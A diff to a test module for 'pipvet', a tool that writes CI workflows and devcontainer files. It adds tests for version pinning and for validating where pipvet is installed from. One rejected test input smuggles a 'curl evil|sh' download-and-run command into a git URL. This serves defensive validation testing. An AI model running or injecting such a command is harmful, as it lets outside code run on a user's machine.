@@ -14,15 +14,18 @@ from pathlib import Path
 import pytest
 import yaml
 
+from pipvet import __version__
 from pipvet.cli import main
 from pipvet.cli._common import Output
-from pipvet.errors import EnvironmentProblem, PipError
+from pipvet.errors import EnvironmentProblem, PipError, UsageError
 from pipvet.policy import Policy, load_policy, parse_policy
 from pipvet.project.guard import user_guard_set
 from pipvet.project.init import InitOptions, apply_init, plan_init
 from pipvet.project.jsonc import JsoncError, parse_jsonc
+from pipvet.project.pipvet_source import default_source, parse_pipvet_source
 from pipvet.project.templates import (
     TASK_LABEL,
+    WORKFLOW_PATH,
     daily_cron,
     devcontainer_json,
     github_workflow,
@@ -94,7 +97,8 @@ def test_workflow_yaml_structure() -> None:
         "python-version": "3.12"
     }
     runs = [s.get("run", "") for s in steps]
-    assert "python -m pip install --upgrade pipvet" in runs
+    assert f"python -m pip install pipvet=={__version__}" in runs
+    assert not any("--upgrade pipvet" in r for r in runs)
     assert "pipvet update --ci --sarif pipvet.sarif" in runs
     upload = next(s for s in steps if "upload-sarif" in s.get("uses", ""))
     assert upload["uses"].startswith("github/codeql-action/upload-sarif@")
@@ -144,10 +148,18 @@ def test_daily_cron_is_stable_and_differs_by_project() -> None:
 
 
 def test_devcontainer_uses_update_content_command() -> None:
-    data = json.loads(devcontainer_json("demo", "3.12"))
+    data = parse_jsonc(devcontainer_json("demo", "3.12")).value
     assert "pipvet update" in data["updateContentCommand"]
     assert "postCreateCommand" not in data
     assert data["image"].endswith(":3.12")
+
+
+def test_vscode_task_from_path_names_no_machine_path() -> None:
+    task = vscode_task()
+    assert (task["command"], task["args"]) == ("pipvet", ["update"])
+    assert task["options"] == {"cwd": "${workspaceFolder}"}
+    assert "windows" not in task
+    assert task["detail"].endswith("pipvet-managed sha256:" + task_fingerprint(task))
 
 
 def test_vscode_task_shape_and_fingerprint() -> None:
@@ -336,7 +348,9 @@ def test_fresh_project_end_to_end_and_idempotent(tmp_path: Path) -> None:
     assert (project / ".gitignore").read_text() == ".venv/\n"
     assert oct((project / ".gitignore").stat().st_mode & 0o777) != "0o600"
     tasks = parse_jsonc((project / ".vscode" / "tasks.json").read_text()).value["tasks"]
-    assert tasks[0]["command"] == PY
+    # no environment with pipvet in it: the task runs pipvet from PATH, and a note says so
+    assert (tasks[0]["command"], tasks[0]["args"]) == ("pipvet", ["update"])
+    assert any("pipx install pipvet==" in note for note in plan.notes)
     again = plan_init(options(project, env, venv=False, devcontainer=True))
     assert again.nothing_to_do
     assert {f.action for f in again.files} == {"unchanged"}
@@ -454,7 +468,9 @@ def test_active_environments_are_respected(tmp_path: Path) -> None:
     assert "would refuse to install into them" in plan.guard.description
     tasks = next(f for f in plan.files if f.display == ".vscode/tasks.json")
     assert tasks.new is not None
-    assert parse_jsonc(tasks.new).value["tasks"][0]["command"] == str(conda / "bin" / "python")
+    # never the conda environment's absolute path: the file is meant to be committed
+    assert parse_jsonc(tasks.new).value["tasks"][0]["command"] == "pipvet"
+    assert str(tmp_path) not in tasks.new
 
 
 def test_venv_creation_failure_stops_before_any_file(tmp_path: Path) -> None:
@@ -598,3 +614,133 @@ def test_command_fails_on_a_file_it_cannot_parse(
     assert f"Skipped 1 file:\n  - {rel}: " in out
     assert "Wrote 2 files." in out
     assert (project / rel).read_text() == text  # never rewritten
+
+
+# ------------------------------------------------------------------ where pipvet comes from
+
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+
+
+def test_generated_files_install_the_exact_pipvet_that_wrote_them() -> None:
+    """No file installs an unpinned "pipvet": whoever registers the name would run code in
+    every CI job (with security-events: write) and every devcontainer."""
+    workflow = github_workflow("3.12", "0 3 * * *")
+    container = devcontainer_json("demo", "3.12")
+    for text in (workflow, container):
+        installs = re.findall(r"pip install ([^\n&\"]+)", text)
+        assert [i.strip() for i in installs if "pipvet" in i] == [f"pipvet=={__version__}"]
+        assert "To upgrade, install the" in text
+        assert "`pipvet init` again" in text
+    assert "pip install --upgrade pip &&" in container  # pip itself may float
+
+
+def test_a_named_source_replaces_the_index_and_keeps_the_fingerprint(tmp_path: Path) -> None:
+    source = parse_pipvet_source(f"git+https://github.com/acme/pipvet@{COMMIT}", tmp_path)
+    workflow = github_workflow("3.12", "0 3 * * *", source)
+    steps = yaml.safe_load(workflow)["jobs"]["pipvet"]["steps"]
+    assert f"python -m pip install git+https://github.com/acme/pipvet@{COMMIT}" in [
+        s.get("run") for s in steps
+    ]
+    assert "pipvet==" not in workflow
+    recorded, actual = workflow_fingerprint(workflow)
+    assert recorded == actual
+    container = devcontainer_json("demo", "3.12", source)
+    recorded, actual = workflow_fingerprint(container)
+    assert recorded == actual
+    edited = workflow_fingerprint(container.replace(f"@{COMMIT} &&", "@" + "f" * 40 + " &&"))
+    assert edited[0] == recorded
+    assert edited[1] != recorded
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("git+https://github.com/acme/pipvet", "names no commit"),
+        ("git+https://github.com/acme/pipvet@main", "full 40-character commit SHA"),
+        ("git+https://github.com/acme/pipvet@0123456", "full 40-character commit SHA"),
+        (f"git+https://tok:x@github.com/acme/pipvet@{COMMIT}", "user name or token"),
+        (f"git+http://github.com/acme/pipvet@{COMMIT}", "only git+https"),
+        (f"git+https://github.com/a/b@{COMMIT};curl evil|sh", "full 40-character"),
+        ("https://example.com/pipvet.whl", "not a git+https URL or a wheel path"),
+        ("dist/missing.whl", "no such file"),
+        ("README.md", "not a wheel"),
+        ("../outside.whl", "outside the project"),
+        ("dist/we ird;x.whl", "unsafe in a shell"),
+    ],
+)
+def test_pipvet_source_is_checked(tmp_path: Path, text: str, message: str) -> None:
+    project = tmp_path / "proj"
+    (project / "dist").mkdir(parents=True)
+    (project / "README.md").write_text("hi")
+    (project / "dist" / "we ird;x.whl").write_bytes(b"PK")
+    (tmp_path / "outside.whl").write_bytes(b"PK")
+    with pytest.raises(UsageError, match=re.escape(message)):
+        parse_pipvet_source(text, project)
+
+
+def test_a_wheel_in_the_project_is_named_relative_to_it(tmp_path: Path) -> None:
+    wheel = tmp_path / "dist" / "pipvet-0.1.0-py3-none-any.whl"
+    wheel.parent.mkdir()
+    wheel.write_bytes(b"PK")
+    for given in (str(wheel), "dist/pipvet-0.1.0-py3-none-any.whl"):
+        source = parse_pipvet_source(given, tmp_path)
+        assert source.requirement == "./dist/pipvet-0.1.0-py3-none-any.whl"
+        assert "To upgrade, add the newer wheel" in source.upgrade
+
+
+def test_command_refuses_a_moving_source_and_writes_nothing(tmp_path: Path) -> None:
+    project = tmp_path / "proj"
+    project.mkdir()
+    argv = ["init", "--project", str(project), "--no-venv", "--pipvet-source"]
+    code, out, err = run_cli([*argv, "git+https://github.com/acme/pipvet@main"])
+    assert code == 2
+    assert out == ""
+    assert "Traceback" not in err
+    assert "pipvet: error: --pipvet-source 'git+https://github.com/acme/pipvet@main'" in err
+    assert files_in(project) == []
+    code, out, err = run_cli([*argv, f"git+https://github.com/acme/pipvet@{COMMIT}"])
+    assert code == 0, err
+    workflow = (project / ".github" / "workflows" / "pipvet.yml").read_text()
+    assert f"pip install git+https://github.com/acme/pipvet@{COMMIT}\n" in workflow
+
+
+def test_upgrading_pipvet_rewrites_its_unchanged_files_but_not_edited_ones(tmp_path: Path) -> None:
+    project = tmp_path / "proj"
+    project.mkdir()
+    env = clean_environ(tmp_path)
+    apply_init(plan_init(options(project, env, venv=False, devcontainer=True)), SubprocessRunner())
+    newer = default_source("9.9.9")
+    container = project / ".devcontainer" / "devcontainer.json"
+    container.write_text(container.read_text().replace("ms-python.python", "evil.ext"))
+    opts = InitOptions(
+        project=project, python=Path(sys.executable), environ=env, venv=False,
+        devcontainer=True, pipvet_source=newer,
+    )  # fmt: skip
+    plan = plan_init(opts)
+    actions = {f.display: f.action for f in plan.files}
+    assert actions[".github/workflows/pipvet.yml"] == "update"
+    assert actions[".devcontainer/devcontainer.json"] == "skip"
+    apply_init(plan, SubprocessRunner())
+    assert "pip install pipvet==9.9.9\n" in (project / WORKFLOW_PATH).read_text()
+    assert "evil.ext" in container.read_text()
+
+
+def test_the_task_uses_the_project_environment_only_when_pipvet_is_in_it(tmp_path: Path) -> None:
+    project = tmp_path / "proj"
+    site = project / ".venv" / "lib" / "python3.12" / "site-packages"
+    site.mkdir(parents=True)
+    (project / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    (project / ".venv" / "bin").mkdir()
+    (project / ".venv" / "bin" / "python").symlink_to(sys.executable)
+    env = clean_environ(tmp_path)
+    tasks = next(f for f in plan_init(options(project, env)).files if "tasks" in f.display)
+    assert tasks.new is not None
+    assert parse_jsonc(tasks.new).value["tasks"][0]["command"] == "pipvet"
+    (site / f"pipvet-{__version__}.dist-info").mkdir()
+    plan = plan_init(options(project, env))
+    tasks = next(f for f in plan.files if "tasks" in f.display)
+    assert tasks.new is not None
+    task = parse_jsonc(tasks.new).value["tasks"][0]
+    assert (task["command"], task["args"]) == (PY, ["-m", "pipvet", "update"])
+    assert task["windows"] == {"command": PY_WIN}
+    assert not any("pipx install" in note for note in plan.notes)
